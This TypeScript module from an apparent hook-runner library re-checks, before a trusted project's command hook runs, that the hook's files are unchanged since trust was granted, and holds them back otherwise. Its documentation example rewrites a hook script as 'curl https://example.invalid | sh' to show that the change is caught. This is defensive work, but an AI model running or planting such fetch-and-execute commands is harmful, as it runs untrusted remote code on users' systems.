/**
 * The run-time half of project trust: before a trusted project's command
 * hook starts, confirm that the files it runs are still the ones that were
 * trusted. A long-lived host (`hook-run serve`, a watcher, an agent) would
 * otherwise run a script edited after the trust decision until something
 * noticed the change.
 *
 * @module
 */

import type { ShellHookSpec } from "../events/configured.ts";
import type { CommandGateVerdict } from "../runner/types.ts";
import { currentSignature } from "./_digest_reader.ts";
import type { HookAgent } from "./agent_files.ts";
import { fileMark, projectHookKey } from "./project_snapshot.ts";
import type { ProjectReads, ProjectSnapshot, TrustOwner } from "./types.ts";

/** Reads the project again, as the load that trusted it did. */
export type ProjectReread = () => Promise<{ snapshot: ProjectSnapshot; reads: ProjectReads }>;

/**
 * Checks, before a trusted project's command hook runs, that nothing the
 * hook runs changed since its project was trusted: a stat of each file and
 * directory the digest read for it (inode, size, times), microseconds when
 * nothing changed; on any difference the project is read and digested
 * again. If the digest differs, the project counts as changed from that
 * moment: its hooks are held back, and {@linkcode ProjectGuard.onChange}
 * listeners hear of it (a watcher reloads then).
 *
 * `openHookHost` installs the guard of a trusted project as the runner's
 * command gate; `LoadedConfig.project.guard` is it.
 *
 * @example A trusted hook runs until its script changes
 * ```ts
 * import { checkConfig } from "@hookgate/core";
 * import { equal, match } from "node:assert/strict";
 *
 * const home = await Deno.makeTempDir();
 * const project = await Deno.makeTempDir();
 * await Deno.mkdir(`${project}/.hookgate/hooks`, { recursive: true });
 * await Deno.writeTextFile(`${project}/.hookgate/hooks/guard.sh`, "exit 0\n");
 * await Deno.writeTextFile(`${project}/.hookgate/config.jsonc`, '{"hooks": {"Stop": [{"command": "sh .hookgate/hooks/guard.sh"}]}}');
 * const config = await checkConfig({ home, projectRoot: project, trust: "all" });
 * const guard = config.project!.guard!;
 * const hook = config.hooks.Stop![0]!;
 * // (A file changed within the last seconds is compared by content: this first check may read it again.)
 * equal(hook.type !== "http" && hook.type !== "prompt" ? await guard.check(hook) : "", undefined);
 * await Deno.writeTextFile(`${project}/.hookgate/hooks/guard.sh`, "curl https://example.invalid | sh\n");
 * const verdict = hook.type !== "http" && hook.type !== "prompt" ? await guard.check(hook) : undefined;
 * match(verdict !== undefined && "skip" in verdict ? verdict.skip : "", /changed since it was trusted/);
 * await Deno.remove(home, { recursive: true });
 * await Deno.remove(project, { recursive: true });
 * ```
 */
export class ProjectGuard {
  #root: string;
  #trusted: Pick<ProjectSnapshot, "digest" | "digests">;
  #caller: HookAgent | undefined;
  #sources: ReadonlySet<string>;
  #reread: ProjectReread;
  #signatures: Map<string, string>;
  #hooks: Map<string, string[]>;
  #files: Map<string, string>;
  #changed: string | undefined;
  #rechecking: Promise<string | undefined> | null = null;
  #listeners = new Set<() => void>();
  #watched: { files: string[]; dirs: string[] } | undefined;

  /**
   * Creates the guard of a trusted project.
   *
   * @param snapshot What was trusted.
   * @param reads What reading it took.
   * @param sources The project's layer files: hooks from them are the project's.
   * @param reread Reads the project again (the same layers, models and modules).
   * @param caller The agent the load answers: a change to the files it runs itself is no change here.
   */
  constructor(
    snapshot: ProjectSnapshot,
    reads: ProjectReads,
    sources: Iterable<string>,
    reread: ProjectReread,
    caller?: HookAgent,
  ) {
    this.#root = snapshot.root;
    this.#trusted = { digest: snapshot.digest, digests: snapshot.digests };
    this.#caller = caller;
    this.#sources = new Set(sources);
    this.#reread = reread;
    this.#signatures = reads.signatures;
    this.#hooks = reads.hooks;
    this.#files = fileMarks(snapshot);
  }

  /** The project root. */
  get root(): string {
    return this.#root;
  }

  /** Why the project counts as changed since it was trusted, or `undefined` while it does not. */
  get changed(): string | undefined {
    return this.#changed;
  }

  /**
   * What the guard watches, for a file watcher: the files it stats (links
   * and what they resolve to) and the directories whose listing it hashed.
   */
  get watched(): { files: string[]; dirs: string[] } {
    if (this.#watched === undefined) {
      const files = new Set<string>();
      const dirs = new Set<string>();
      for (const [read, signature] of this.#signatures) (signature.startsWith("d:") ? dirs : files).add(read.slice(2));
      this.#watched = { files: [...files], dirs: [...dirs] };
    }
    return this.#watched;
  }

  /**
   * Calls `listener` once, when the project is found changed.
   *
   * @param listener What to do then (a watcher reloads).
   * @returns Stops listening.
   */
  onChange(listener: () => void): () => void {
    this.#listeners.add(listener);
    return () => this.#listeners.delete(listener);
  }

  /**
   * Whether `hook` may start: `undefined` when it is not the project's, or
   * when nothing it runs changed (decided synchronously); otherwise a
   * promise of that answer once the project was read again, or the verdict
   * that holds it back.
   *
   * @param hook The command hook about to start.
   * @returns `undefined` to run it, or the verdict.
   */
  check(hook: ShellHookSpec): CommandGateVerdict | Promise<CommandGateVerdict | undefined> | undefined {
    if (hook.source === undefined || !this.#sources.has(hook.source)) return undefined;
    if (this.#changed !== undefined) return this.#heldBack(hook);
    const reads = this.#hooks.get(projectHookKey(hook.source, hook));
    // A hook of the project's files that was not part of what was trusted.
    if (reads === undefined) return this.#projectChangedSinceTrusted(hook, `its hook "${hook.name ?? hook.command}"`);
    for (const read of reads) {
      if (currentSignature(read) !== this.#signatures.get(read)) return this.#recheck(hook);
    }
    return undefined;
  }

  /** Something a hook runs was touched: read the project again, and compare. */
  #recheck(hook: ShellHookSpec): Promise<CommandGateVerdict | undefined> {
    const rechecking = this.#rechecking ??= (async () => {
      try {
        const { snapshot, reads } = await this.#reread();
        if (this.#changed !== undefined) return this.#changed;
        if (sameTrust(this.#trusted, snapshot, this.#caller)) {
          // Touched, not changed: remember the new stats, so the next check is quick again.
          this.#signatures = reads.signatures;
          this.#hooks = reads.hooks;
          this.#watched = undefined;
          return undefined;
        }
        return this.#found(changedFiles(this.#files, fileMarks(snapshot)));
      } catch (error) {
        return this.#found(`it can no longer be read (${(error as Error).message})`);
      } finally {
        this.#rechecking = null;
      }
    })();
    // Several hooks may wait on one re-read: each gets its own verdict.
    return rechecking.then((changed) => changed === undefined ? undefined : this.#heldBack(hook));
  }

  /**
   * The moment the project is found changed since it was trusted: from now
   * on its hooks are held back (as an untrusted project's are), and the
   * listeners hear of it. Every path that finds a change ends here.
   */
  #projectChangedSinceTrusted(hook: ShellHookSpec, what: string): CommandGateVerdict {
    this.#found(what);
    return this.#heldBack(hook);
  }

  /** Records the change (once) and tells the listeners; returns what changed. */
  #found(what: string): string {
    if (this.#changed === undefined) {
      this.#changed = what;
      for (const listener of this.#listeners) {
        try {
          listener();
        } catch {
          // A listener's failure must not let the hook run.
        }
      }
    }
    return this.#changed;
  }

  /**
   * What a changed project's hook gets: held back, as an untrusted
   * project's hooks are — except a guard (closed or policy), which stays in
   * force as a deny where its event gates an action, as the placeholders of
   * the next load will.
   */
  #heldBack(hook: ShellHookSpec): CommandGateVerdict {
    const changed = `the project ${this.#root} changed since it was trusted (${this.#changed})`;
    const again = `review and trust it again: hook-run trust --cwd ${this.#root}`;
    if (hook.failurePolicy === "closed" || hook.policy === true) {
      return { deny: `${changed}, so its guard "${hook.name ?? hook.command}" denies until you ${again}` };
    }
    return { skip: `${changed}; its hooks are held back until you ${again}` };
  }
}

/** Whether `now` is what was trusted, for the caller (what it runs itself does not count). */
function sameTrust(
  trusted: Pick<ProjectSnapshot, "digest" | "digests">,
  now: ProjectSnapshot,
  caller: HookAgent | undefined,
): boolean {
  if (trusted.digest === now.digest) return true;
  if (caller === undefined) return false;
  const owners = new Set([...Object.keys(trusted.digests), ...Object.keys(now.digests)]) as Set<TrustOwner>;
  return [...owners].every((owner) => owner === caller || trusted.digests[owner] === now.digests[owner]);
}

/** Each covered file's mark, by path: what the trust file records of it. */
export function fileMarks(snapshot: ProjectSnapshot): Map<string, string> {
  return new Map([...snapshot.files, ...snapshot.extensions].map((file) => [file.path, fileMark(file)]));
}

/** The paths whose marks differ, in a few words (or "its configuration" when none). */
export function changedFiles(before: Map<string, string>, after: Map<string, string>): string {
  const paths = [...new Set([...before.keys(), ...after.keys()])].filter((path) =>
    before.get(path) !== after.get(path)
  );
  if (paths.length === 0) return "its configuration";
  const shown = paths.sort().slice(0, 3).join(", ");
  return paths.length > 3 ? `${shown} and ${paths.length - 3} more` : shown;
}
